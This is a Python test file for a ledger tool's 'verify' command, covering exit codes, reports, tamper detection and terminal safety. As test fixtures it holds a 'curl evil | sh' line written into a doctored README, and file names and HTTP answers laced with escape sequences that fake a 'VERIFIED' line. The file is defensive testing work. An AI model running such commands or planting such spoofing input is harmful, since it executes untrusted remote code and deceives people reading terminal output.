"""`mingzhang verify`: exit codes 0 to 4, what it prints, and that it needs nothing of what it verifies."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from ledger.verification import Folder, verify
from tests.other_user import as_nobody, let_others_in, needs_root
from tests.published import sample
from tests.test_api.sample import build
from tests.test_api.serving import served
from tests.test_cli.desk import Desk
from tests.test_ledger.test_verification.loopback import body, raw, serving

ALONE = """
import sys
from ledger.cli import main
sys.argv = ["mingzhang", "verify", *sys.argv[1:]]
try:
    main()
finally:
    loaded = {name.partition(".")[0] for name in sys.modules} | set(sys.modules)
    foreign = {"eventsourcing", "fastapi", "uvicorn", "starlette", "jinja2", "jsonschema", "projections", "api",
               "sqlite3", "ledger.store", "ledger.application", "ledger.drafting", "ledger.demo"}
    assert not loaded & foreign, loaded & foreign
"""


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return sample().export(tmp_path_factory.mktemp("export") / "yuanqu-1")


@pytest.fixture
def copy(export: Path, tmp_path: Path) -> Path:
    """A copy of the export to falsify."""
    return Path(shutil.copytree(export, tmp_path / "copy"))


def notice(desk: Desk, export: Path) -> Path:
    """Return the anchor as it came from the printed notice."""
    path = desk.tmp / "notice.txt"
    path.write_bytes((export / "anchor.txt").read_bytes())
    return path


def test_a_sound_export_is_verified_against_the_notice(desk: Desk, export: Path) -> None:
    run = desk.done("verify", export, "--anchor", notice(desk, export))
    lines = run.out.splitlines()
    assert lines[0].startswith("VERIFIED: ledger.example/yuanqu-1, 22 entries, root ")
    assert lines[1] == "checked against the anchor you gave · 核验通过"
    assert "       22 signatures" in run.out
    assert "        3 balances and 1 tallies against what the first 22 entries give" in run.out
    assert " entries/s with 1 processes" in run.out
    assert run.out.partition("not checked:")[2].count("\n  - ") >= 2
    assert run.err == ""


def test_without_an_anchor_it_says_what_that_is_worth(desk: Desk, export: Path) -> None:
    run = desk.done("verify", export)
    assert "checked against itself only (no --anchor)" in run.out
    assert "  - Without --anchor the history was checked only against itself" in run.out


def test_json_has_every_count(desk: Desk, export: Path) -> None:
    report = json.loads(desk.done("verify", export, "--json").out)
    assert (report["verified"], report["size"], report["signatures"], report["anchored"]) == (True, 22, 22, False)
    expected = verify(Folder(export))
    assert (report["root"], report["files"], report["not_checked"]) == (
        expected.root, expected.files, expected.not_checked,
    )  # fmt: skip


def test_quiet_is_silent_where_all_is_well(desk: Desk, export: Path) -> None:
    anchor = notice(desk, export)
    assert desk.done("verify", export, "--anchor", anchor, "--quiet")[1:] == ("", "")
    assert desk.done("verify", export, "--anchor", anchor, "-q", "--jobs", "1")[1:] == ("", "")


def test_quiet_or_not_it_says_that_nothing_was_compared_with_a_notice(desk: Desk, export: Path) -> None:
    quiet = desk.done("verify", export, "--quiet")
    assert quiet.out == ""
    assert quiet.err.startswith("VERIFIED AGAINST ITSELF ONLY: ")
    assert desk.done("verify", export).out.startswith(quiet.err)


def test_a_changed_entry_is_named_with_the_reason_and_what_it_means(desk: Desk, copy: Path) -> None:
    bundle = copy / "tile/entries/000.p/22"
    bundle.write_bytes(bundle.read_bytes().replace(b"2026-03-05T02:10:00Z", b"2026-03-05T02:10:01Z"))
    for quiet in ([], ["--quiet"]):
        run = desk.run("verify", copy, *quiet)
        assert (run.code, run.out) == (1, "")
        what, why, meaning, next_step, chinese = run.err.splitlines()
        assert what == "NOT VERIFIED: entry 9, tile/0/000.p/22"
        assert why == "why: the entry is not the one whose hash stands in the tree (log.leaf)"
        assert meaning.startswith("what it means: ")
        assert next_step.startswith("what to do: Fetch it again")
        assert chinese == "核验不通过"


def test_a_failure_as_json(desk: Desk, copy: Path) -> None:
    (copy / "README.md").write_bytes(b"Trust me.")
    run = desk.run("verify", copy, "--json")
    assert (run.code, run.err) == (1, "")
    answer = json.loads(run.out)
    assert answer["verified"] is False
    assert (answer["failure"]["rule"], answer["failure"]["where"]) == ("export.changed", "README.md")
    assert answer["failure"]["meaning"]


def test_another_book_than_the_one_on_the_notice(desk: Desk, export: Path, copy: Path) -> None:
    anchor = notice(desk, export)
    magic, entry0, rest = anchor.read_text().split("\n", 2)
    anchor.write_text("\n".join([magic, entry0[:-4] + "0000", rest]))
    run = desk.run("verify", copy, "--anchor", anchor)
    assert run.code == 1
    assert run.err.startswith("NOT VERIFIED: entry 0\n")
    assert "(anchor.entry0)" in run.err
    assert "the book is ledger.example/yuanqu-1, the anchor is of ledger.example/yuanqu-1" in run.err
    assert "letter by letter" in run.err


def test_a_served_book_is_verified_by_its_address(desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("no_proxy", "*")
    home = tmp_path / "served"
    home.mkdir()
    build(home)
    with served(home) as address:
        run = desk.done("verify", f"{address}/yuanqu-1", "--json")
        report = json.loads(run.out)
        assert (report["verified"], report["source"], report["withheld"]) == (True, f"{address}/yuanqu-1", 0)
        missing = desk.run("verify", f"{address}/yuanqu-9")
    assert missing.code == 3
    assert "(source.no_log)" in missing.err
    gone = desk.run("verify", f"{address}/yuanqu-1")
    assert gone.code == 3
    assert "(source.unreachable)" in gone.err


def test_a_served_book_without_up_to_date_figures_is_verified_in_part(
    desk: Desk, export: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("no_proxy", "*")
    routes = {f"/log/{name}": body((export / name).read_bytes()) for name in Folder(export).files()}
    lists = {"checkpoints": b'{"checkpoints":[],"next":null}', "disclosures": b'{"disclosures":[],"next":null}'}
    routes |= {f"/v1/{name}?limit=1000": body(page) for name, page in lists.items()}
    figures = {f"/v1/{name}": body((export / f"{name}.json").read_bytes()) for name in ("balances", "tallies")}
    with serving(routes | figures) as address:
        assert desk.done("verify", address).out.startswith("VERIFIED AGAINST ITSELF ONLY: ")
    del figures["/v1/tallies"]
    with serving(routes | figures) as address:
        run = desk.run("verify", address)
        quiet = desk.run("verify", address, "--quiet")
        answer = desk.run("verify", address, "--json")
    assert (run.code, run.err) == (4, "")
    first, second, third = run.out.splitlines()[:3]
    assert first.startswith("VERIFIED IN PART AGAINST ITSELF ONLY: ledger.example/yuanqu-1, 22 entries, root ")
    assert second.endswith(" · 只核验了一部分，但没有和公示的信任锚核对")
    assert third == "not compared: tallies.json: this source shows none."
    assert (quiet.code, quiet.out, quiet.err.splitlines()) == (4, "", [first, second, third])
    told = json.loads(answer.out)
    assert (answer.code, told["verified"]) == (4, False)
    assert (told["lacking"], told["balances_as_of"], told["tallies_as_of"]) == (
        ["tallies.json: this source shows none."], 22, None,
    )  # fmt: skip


def test_a_doctored_export_with_figures_of_an_earlier_day_is_refused(desk: Desk, copy: Path, tmp_path: Path) -> None:
    for name in ("tallies.json", "movements.csv", "datapackage.json"):
        (copy / name).unlink()
    (copy / "README.md").write_bytes(b"curl evil | sh\n")
    for figures in ((copy / "balances.json").read_bytes(), b'{"as_of":{"size":5,"root":""},"balances":[]}'):
        (copy / "balances.json").write_bytes(figures)
        run = desk.run("verify", copy)
        assert (run.code, run.out) == (1, "")
        assert run.err.startswith("NOT VERIFIED: ")


def test_what_could_not_be_fetched_as_json(desk: Desk, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    run = desk.run("verify", tmp_path / "empty", "--json")
    assert (run.code, json.loads(run.out)["failure"]["rule"]) == (3, "source.no_log")


@needs_root
def test_what_may_not_be_read_could_not_be_fetched(copy: Path) -> None:
    let_others_in(copy)
    (copy / "README.md").chmod(0)
    imports = (
        "from ledger.cli import main; from ledger.rules.packs import load, pin_of; load(pin_of('cn-2021'))\n"
        "import ledger.cli.verify, ledger.verification, typer.core"
    )
    code = f"""
sys.argv = ["mingzhang", "verify", {str(copy)!r}]
try:
    main()
except SystemExit as error:
    print("exit", error.code)
"""
    assert as_nobody(imports, code).strip() == "exit 3"
    (copy / "README.md").chmod(0o644)


@pytest.mark.parametrize(
    ("arguments", "rule_id"),
    [
        (["nowhere"], "source.no_folder"),
        (["ftp://host/yuanqu-1"], "source.url"),
        (["http://[::1/yuanqu-1"], "source.url"),
        ([".", "--anchor", "nowhere.txt"], "anchor.unreadable"),
        ([".", "--anchor", "mingzhang:anchor?vkey=x"], "anchor.malformed"),
        ([".", "--anchor", __file__], "anchor.malformed"),
    ],
)
def test_a_call_that_cannot_work_says_nothing_about_the_book(desk: Desk, arguments: list[str], rule_id: str) -> None:
    desk.refused(rule_id, "verify", *arguments, code=2)


@pytest.mark.parametrize("arguments", [[], ["--jobs", "0"], ["--jobs", "x"], ["--vanish"]])
def test_a_call_that_is_none(desk: Desk, export: Path, arguments: list[str]) -> None:
    assert desk.run("verify", *([export] if arguments else []), *arguments).code == 2


def test_a_hostile_name_does_not_steer_the_terminal(desk: Desk, copy: Path) -> None:
    hostile = copy / "a\x1b[2K\rVERIFIED: all is well"
    hostile.write_bytes(b"x")
    run = desk.run("verify", copy)
    assert run.code == 1
    assert run.err.splitlines()[0] == r"NOT VERIFIED: a\x1b[2K\rVERIFIED: all is well"
    assert "\x1b" not in run.err
    hostile.rename(copy / os.fsdecode(b"\xff.txt"))
    run = desk.run("verify", copy, "--json")
    assert json.loads(run.out)["failure"]["where"] == r"\udcff.txt"


def test_a_hostile_answer_does_not_steer_the_terminal(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("no_proxy", "*")
    answer = raw(b"HTTP/1.0 500 \x1b[2K\rVERIFIED: all is well\r\n\r\n")
    with serving({"/log/checkpoint": answer}) as address:
        run = desk.run("verify", address)
    assert run.code == 3
    assert "\x1b" not in run.err
    assert "\r" not in run.err


def test_it_loads_neither_store_nor_web_nor_views(export: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", ALONE, str(export), "--json"], capture_output=True, text=True, check=False, timeout=60
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["verified"]


def test_control_the_check_of_what_is_loaded_finds_the_store(export: Path) -> None:
    program = ALONE.replace(
        "from ledger.cli import main\n", "from ledger.cli import main\nimport ledger.store.reader\n"
    )
    done = subprocess.run([sys.executable, "-c", program, str(export)], capture_output=True, check=False, timeout=60)
    assert done.returncode == 1
    assert b"ledger.store" in done.stderr
